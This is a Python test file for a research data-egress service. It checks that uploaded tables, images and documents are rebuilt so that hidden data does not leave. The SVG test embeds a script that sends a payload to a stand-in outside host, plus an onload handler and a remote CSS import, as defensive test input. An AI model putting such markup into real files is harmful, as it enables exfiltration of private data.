"""What leaves is what was reviewed, and nothing more (issue 13.3): every upload is rebuilt from its
parsed content at intake; the checks, the checkers and the release all use those rebuilt bytes, under
one SHA-256. Each format test smuggles a payload the parsers do not show and finds it neither in the
reviewed version nor in the released file; with the rebuild switched off (``upload._rebuild``) each
fails (the payload is stored, and the release refuses a version that is not canonical)."""

from __future__ import annotations

import hashlib
import io
import json
import zipfile

import pytest

from egress_review import upload
from egress_review.models import Release
from egress_review.quarantine import canonical
from egress_review.release.release import ReleaseFailed, release
from egress_review.release.verify_cli import verify_release
from egress_review.states import RequestState
from tests.unit.egress.egress_factories import researcher

pytestmark = pytest.mark.unit

PAYLOAD = "01017012345 Kari Nordmann"


def _released(env, name: str, data: bytes) -> tuple[bytes, bytes, dict]:
    """(bytes the checkers review, bytes released, manifest) for one output taken through the real
    upload, checks, two approvals and release."""
    req_id = env.make_request(RequestState.RELEASED, files={name: data})
    req = env.get(req_id)
    f = req.files[0]
    with env.svc.sessions() as s:
        v = s.get(type(f.current_version), f.current_version_id)
        reviewed = b"".join(env.svc.store.read(v.blob, v.id, v.wrapped_key))
        assert hashlib.sha256(reviewed).hexdigest() == v.sha256
        rel = s.query(Release).filter_by(request_id=req_id).one()
        folder = env.svc.release_dir / "alpha" / rel.id
    released = (folder / name).read_bytes()
    doc = json.loads((folder / "manifest.json").read_text())
    assert verify_release(folder / "manifest.json", [folder / name], env.settings.public_key_path) == []
    # the hash the checkers saw is the hash the manifest signs, and the bytes that leave
    assert released == reviewed
    assert doc["manifest"]["files"][0]["sha256"] == hashlib.sha256(reviewed).hexdigest()
    return reviewed, released, doc


def _all_text(data: bytes) -> bytes:
    """Every member of a zip, uncompressed, as one byte string (a payload can hide in any part)."""
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        return b"".join(zf.read(n) for n in zf.namelist()) + "".join(zf.namelist()).encode()


def test_csv_leaves_reserialised_without_a_hidden_channel(env):
    # a message in the quoting, line endings, BOM and blank lines: invisible in any table view
    smuggled = '\ufeffdistrict,days\r\n"Grefsen",120\n\nSagene,"340"\r\n\r\nFrogner,415\r\n\r\n\r\n'.encode()
    reviewed, released, _ = _released(env, "t.csv", smuggled)
    assert released == b"district,days\nGrefsen,120\nSagene,340\nFrogner,415\n"


def test_tsv_leaves_reserialised(env):
    reviewed, released, _ = _released(env, "t.tsv", b'a\tb\r\n"x"\t1\r\n\r\ny\t2\r\n')
    assert released == b"a\tb\nx\t1\ny\t2\n"


def _smuggling_workbook() -> bytes:
    import openpyxl
    from openpyxl.comments import Comment
    from openpyxl.workbook.defined_name import DefinedName

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "table"
    for row in (["district", "days"], ["Grefsen", 120], ["Sagene", 340], ["Frogner", 415]):
        ws.append(row)
    ws["A2"].comment = Comment(f"comment {PAYLOAD}", "x")
    ws.column_dimensions["C"].hidden = True
    hidden = wb.create_sheet("raw")
    hidden.append(["fnr", "name"])
    hidden.append([PAYLOAD.split()[0], "hidden sheet " + PAYLOAD])
    hidden.sheet_state = "hidden"
    wb.defined_names["secret"] = DefinedName("secret", attr_text="raw!$A$2")
    wb.properties.creator = f"creator {PAYLOAD}"
    buf = io.BytesIO()
    wb.save(buf)
    with zipfile.ZipFile(buf, "a") as zf:
        zf.writestr("customXml/item1.xml", f"<data>customXml {PAYLOAD}</data>")
    return buf.getvalue()


def test_xlsx_leaves_with_the_visible_cell_values_only(env):
    import openpyxl

    smuggled = _smuggling_workbook()
    assert PAYLOAD.encode() in _all_text(smuggled)
    reviewed, released, _ = _released(env, "t.xlsx", smuggled)
    text = _all_text(released)
    assert PAYLOAD.split()[0].encode() not in text and b"Nordmann" not in text
    assert not any(n.startswith(("customXml", "xl/comments")) for n in zipfile.ZipFile(io.BytesIO(released)).namelist())
    wb = openpyxl.load_workbook(io.BytesIO(released))
    assert wb.sheetnames == ["table"] and not wb.defined_names
    assert [[c.value for c in r] for r in wb["table"].iter_rows()] == [
        ["district", "days"], ["Grefsen", 120], ["Sagene", 340], ["Frogner", 415]]


def test_parquet_leaves_without_key_value_metadata_or_extra_row_groups(env):
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.table({"district": ["Grefsen", "Sagene", "Frogner"], "days": [120, 340, 415]})
    schema = pa.schema([pa.field("district", pa.string(), metadata={"note": f"field {PAYLOAD}"}),
                        pa.field("days", pa.int64())], metadata={"secret": f"file {PAYLOAD}"})
    buf = io.BytesIO()
    pq.write_table(table.cast(schema), buf, row_group_size=1)
    smuggled = buf.getvalue()
    assert PAYLOAD.encode() in smuggled and pq.ParquetFile(io.BytesIO(smuggled)).num_row_groups == 3
    reviewed, released, _ = _released(env, "t.parquet", smuggled)
    assert b"Nordmann" not in released
    meta = pq.ParquetFile(io.BytesIO(released))
    assert meta.metadata.metadata is None and meta.num_row_groups == 1
    assert pq.read_table(io.BytesIO(released)).to_pylist() == table.to_pylist()


def test_png_leaves_reencoded_from_its_pixels(env):
    from PIL import Image, PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", f"tEXt {PAYLOAD}")
    info.add_itxt("Author", f"iTXt {PAYLOAD}")
    img = Image.new("RGB", (6, 4), (200, 30, 30))
    img.putpixel((1, 1), (0, 90, 0))
    buf = io.BytesIO()
    img.save(buf, format="PNG", pnginfo=info)
    smuggled = buf.getvalue() + f"after IEND {PAYLOAD}".encode()
    reviewed, released, _ = _released(env, "plot.png", smuggled)
    assert b"Nordmann" not in released and b"tEXt" not in released and b"iTXt" not in released
    assert released.endswith(b"IEND\xaeB`\x82")  # nothing after the end chunk
    out = Image.open(io.BytesIO(released))
    assert out.getpixel((0, 0)) == (200, 30, 30) and out.getpixel((1, 1)) == (0, 90, 0)


def test_svg_leaves_rebuilt_without_scripts_or_hidden_content(env):
    smuggled = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="10">'
        f'<!-- {PAYLOAD} --><metadata>{PAYLOAD}</metadata><desc>{PAYLOAD}</desc>'
        f'<script>fetch("https://x/?{PAYLOAD}")</script>'
        f'<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">{PAYLOAD}</div></foreignObject>'
        '<image xlink:href="data:image/png;base64,AAAA" width="1" height="1"/>'
        '<rect x="1" y="1" width="5" height="5" fill="red" onload="alert(1)"/>'
        '<style>@import url(https://x/a.css);</style>'
        '</svg>'
    ).encode()
    reviewed, released, _ = _released(env, "plot.svg", smuggled)
    for gone in (b"Nordmann", b"script", b"foreignObject", b"image", b"onload", b"@import", b"data:"):
        assert gone not in released, gone
    assert b'<rect x="1" y="1" width="5" height="5" fill="red" />' in released


def test_json_leaves_reserialised_and_duplicate_keys_are_refused(env, client):
    reviewed, released, _ = _released(env, "t.json", b'{"n":   12,\n\n"k":"v"}   \n\n\n   ')
    assert json.loads(released) == {"n": 12, "k": "v"} and released == b'{\n  "n": 12,\n  "k": "v"\n}\n'
    with pytest.raises(Exception, match="duplicate key"):
        canonical.rebuild("json", b'{"n": 12, "n": 4}')


def test_every_rebuild_is_its_own_rebuild():
    """Idempotent, so the release can tell a canonical version from one that was never rebuilt."""
    import matplotlib

    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    fig, ax = plt.subplots(figsize=(2, 1))
    ax.bar(["a", "b"], [12, 30])
    svg = io.BytesIO()
    fig.savefig(svg, format="svg")
    png = io.BytesIO()
    fig.savefig(png, format="png")
    plt.close(fig)
    # intake refuses a DOCTYPE; matplotlib's SVG without it
    plain_svg = b"\n".join(ln for ln in svg.getvalue().splitlines() if not ln.startswith(b"<!DOCTYPE")
                           and not ln.startswith(b'  "http://www.w3.org/Graphics'))
    for kind, data in (("svg", plain_svg), ("png", png.getvalue()), ("xlsx", _smuggling_workbook()),
                       ("csv", b'a,b\r\n"1",2\r\n')):
        once = canonical.rebuild(kind, data)
        assert canonical.rebuild(kind, once) == once and canonical.is_canonical(kind, once), kind
        assert not canonical.is_canonical(kind, data), kind


def test_a_version_stored_without_its_rebuild_is_not_released(env, monkeypatch):
    monkeypatch.setattr(upload, "_rebuild", lambda svc, staged, kind: staged)  # as before this control
    req_id = env.make_request(RequestState.APPROVED, files={"t.csv": b'district,days\r\n"Grefsen",120\r\n'})
    monkeypatch.undo()
    with pytest.raises(ReleaseFailed, match="canonical"):
        env.act(lambda s, r: release(s, env.svc.audit, env.svc.store, env.svc.signer, env.svc.release_dir, r), req_id)
    assert not list(env.svc.release_dir.rglob("t.csv"))


def test_the_audit_names_the_received_and_the_stored_hash(env):
    data = b'district,days\r\n"Grefsen",120\r\n'
    req_id = env.make_request(RequestState.DRAFT, files={"t.csv": data})
    f = env.get(req_id).files[0]
    from egress_review.models import EgressAuditEvent

    with env.svc.sessions() as s:
        event = s.query(EgressAuditEvent).filter_by(action="file.upload").one()
        details = json.loads(event.detail)
        assert details["uploaded_sha256"] == hashlib.sha256(data).hexdigest()
        assert details["sha256"] == f.current_version.sha256 != details["uploaded_sha256"]


def test_a_sidecar_written_for_the_received_file_is_carried_to_the_rebuilt_one(env):
    from egress_review import submission

    data = b'district,days\r\nGrefsen,120\r\n'
    p = researcher("alice", "alpha")
    req_id = env.make_request(RequestState.DRAFT, files={})
    with env.svc.sessions() as s:
        req = submission.get_request(s, req_id)
        f = submission.add_file(s, env.svc.audit, env.svc.policy, p, req, name="t.csv", kind="output",
                                context="c", controls="k", sidecar={"sha256": hashlib.sha256(data).hexdigest(), "x": 1})
        s.commit()
        file_id = f.id
    env.upload(p, req_id, file_id, data, check=False)
    with env.svc.sessions() as s:
        v = submission.get_file(submission.get_request(s, req_id), file_id).current_version
        sidecar = json.loads(env.svc.store.unseal(submission.sidecar_context(file_id), v.sidecar))
        assert sidecar == {"sha256": v.sha256, "x": 1} and v.sha256 != hashlib.sha256(data).hexdigest()


# ------------------------------------------------------------------------------------------- PDF


def test_a_pdf_output_is_refused_unless_the_policy_lets_it_through(env):
    from egress_review.quarantine.intake import IntakeError

    pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
    with pytest.raises(IntakeError, match="PDF"):
        env.make_request(RequestState.DRAFT, files={"r.pdf": pdf})
    env.svc.policy = env.svc.policy.model_copy(
        update={"uploads": env.svc.policy.uploads.model_copy(update={"pdf_outputs": "as_uploaded"})})
    reviewed, released, _ = _released(env, "r.pdf", pdf)
    assert released == pdf


# ------------------------------------------------------------------------------- manifest.json


def test_an_output_cannot_be_named_like_the_release_manifest(env):
    from egress_review.errors import InvalidInput

    with pytest.raises(InvalidInput, match="manifest"):
        env.make_request(RequestState.DRAFT, files={"manifest.json": b'{"manifest": {}}'})
    with pytest.raises(InvalidInput, match="manifest"):
        env.make_request(RequestState.DRAFT, files={"Manifest.JSON": b'{"manifest": {}}'})


def test_the_release_never_writes_its_manifest_over_an_output(env, monkeypatch):
    from egress_review.quarantine import intake

    monkeypatch.setattr(intake, "RESERVED_NAMES", frozenset())  # as if the name check were gone
    forged = b'{\n  "manifest": {\n    "files": []\n  }\n}\n'
    req_id = env.make_request(RequestState.APPROVED, files={"manifest.json": forged})
    with pytest.raises(FileExistsError):
        env.act(lambda s, r: release(s, env.svc.audit, env.svc.store, env.svc.signer, env.svc.release_dir, r), req_id)
    assert not [p for p in env.svc.release_dir.rglob("manifest.json")]


@pytest.mark.parametrize("suffix", [".xlsx", ".parquet"])
def test_an_sdc_table_keeps_its_sidecar_trusted_after_the_rebuild(env, tmp_path, suffix):
    """The notebook wrappers hash the file they wrote; the checks still trust their sidecar once the
    service has stored the rebuilt file instead."""
    import numpy as np
    import pandas as pd

    from egress_review import submission
    from egress_review.api.views import check_report
    from egress_review.sdc import crosstab

    rng = np.random.default_rng(1)
    df = pd.DataFrame({"bydel": rng.choice(["Grefsen", "Sagene", "Frogner"], 3000),
                       "kjonn": rng.choice(["K", "M"], 3000)})
    table, side = crosstab(df.bydel, df.kjonn).export(tmp_path / f"t{suffix}")
    data = table.read_bytes()
    assert canonical.rebuild(suffix[1:], data) != data  # the service stores other bytes than these
    p = researcher("alice", "alpha")
    req_id = env.make_request(RequestState.DRAFT)
    with env.svc.sessions() as s:
        f = submission.add_file(s, env.svc.audit, env.svc.policy, p, submission.get_request(s, req_id),
                                name=table.name, kind="output", context="c", controls="k",
                                sidecar=json.loads(side.read_text()))
        s.commit()
        file_id = f.id
    env.upload(p, req_id, file_id, data)
    with env.svc.sessions() as s:
        v = submission.get_file(submission.get_request(s, req_id), file_id).current_version
        report = check_report(s, v)
    said = json.dumps([report.get("flags"), report.get("unverifiable")])
    assert "different version" not in said, report
